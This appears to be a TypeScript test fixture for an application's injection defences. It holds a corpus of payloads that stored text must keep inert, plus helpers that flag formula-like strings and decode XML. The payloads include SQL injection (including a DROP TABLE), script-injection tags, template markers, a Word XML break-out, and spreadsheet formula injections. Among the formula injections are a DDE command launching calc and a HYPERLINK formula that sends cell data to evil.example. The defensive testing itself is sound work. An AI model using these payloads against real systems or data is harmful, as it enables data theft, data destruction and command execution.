/**
 * The stored-injection corpus: text a hostile or careless user might type into any text field.
 * Each must come back as the same text, inert: never a formula in a spreadsheet, never markup in a
 * document or a page, never part of a query.
 */
export const PAYLOADS = [
  // SQL fragments
  "' OR '1'='1",
  "'; DROP TABLE tasks; --",
  '1) UNION SELECT password_hash FROM users --',
  // markup and script
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  '</w:t></w:r><w:r><w:t>注入',
  // template markers
  '{{7*7}} ${7*7} <%= 7*7 %> #{7*7}',
  // spreadsheet formulas (formula / CSV injection)
  '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
  '=1+2',
  '+SUM(1,2)',
  '-2+3',
  '@SUM(1,1)',
  "=cmd|' /C calc'!A0",
] as const;

/** True for text a spreadsheet would take for a formula or command if it were not stored as text. */
export const formulaLike = (s: string) => /^[=+\-@\t\r]/.test(s);

/** The text of XML character data with its entities decoded, as a reader of the file sees it. */
export const xmlDecode = (s: string) =>
  s
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&apos;/g, "'")
    .replace(/&#(\d+);/g, (_, n: string) => String.fromCodePoint(Number(n)))
    .replace(/&#x([0-9a-f]+);/gi, (_, n: string) => String.fromCodePoint(parseInt(n, 16)))
    .replace(/&amp;/g, '&');

/** The decoded contents of every text element (<t>, <w:t>) of an XML part. */
export const xmlTexts = (xml: string, tag = 't') => [...xml.matchAll(new RegExp(`<${tag}(?: [^>]*)?>([\\s\\S]*?)</${tag}>`, 'g'))].map((m) => xmlDecode(m[1]!));
